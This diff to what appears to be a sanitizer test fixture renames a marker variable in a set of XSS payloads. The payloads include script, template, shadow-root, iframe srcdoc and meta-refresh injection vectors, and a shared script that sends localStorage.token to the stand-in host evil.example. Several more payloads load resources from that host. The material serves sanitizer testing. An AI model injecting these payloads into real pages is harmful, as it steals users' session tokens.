@@ -2,7 +2,7 @@
 export const elsewhere = 'evil.example'
 
 /** What every payload tries to run: it marks the window, opens a dialog and calls another host. */
-const run = `window.__ran=(window.__ran||0)+1;alert(1);fetch('https://${elsewhere}/x?'+localStorage.token)`
+const run = `window.hasRun=(window.hasRun||0)+1;alert(1);fetch('https://${elsewhere}/x?'+localStorage.token)`
 const inAttribute = run.replaceAll("'", '&#39;')
 
 const tags =
@@ -59,8 +59,8 @@ const scripts = [
   `<template><script>${run}</script></template>`,
   `<template><template><img src=x onerror="${inAttribute}"></template></template>`,
   `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
-  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
-  `<iframe srcdoc="&lt;img src=x onerror=parent.__ran=1&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
+  `<iframe srcdoc="<script>parent.hasRun=1</script>"></iframe>`,
+  `<iframe srcdoc="&lt;img src=x onerror=parent.hasRun=1&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
   `<meta http-equiv=refresh content="0;url=https://${elsewhere}/">`,
   `<meta http-equiv=refresh content="0;url=javascript:${inAttribute}">`,
   `<meta http-equiv=Set-Cookie content="a=b">`,
@@ -158,7 +158,7 @@ const clobbering = [
   '<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"><track src="https://evil.example/t.vtt"></video>',
   '<picture><source srcset="https://evil.example/s.png"><img srcset="https://evil.example/s2.png 2x" alt=a></picture>',
   '<table background="https://evil.example/t.png"><tr><td background="https://evil.example/u.png">a</table>',
-  '<body background="https://evil.example/w.png" bgcolor=red onpageshow="window.__ran=1">',
+  '<body background="https://evil.example/w.png" bgcolor=red onpageshow="window.hasRun=1">',
   '<a href="https://evil.example/" ping="https://evil.example/ping" target=_top rel=opener download>a</a>',
   '<a href="//evil.example/">a</a><a href="/\\evil.example/">a</a><a href="\\\\evil.example">a</a>',
   '<a href="https://user:pass@evil.example/">a</a>',
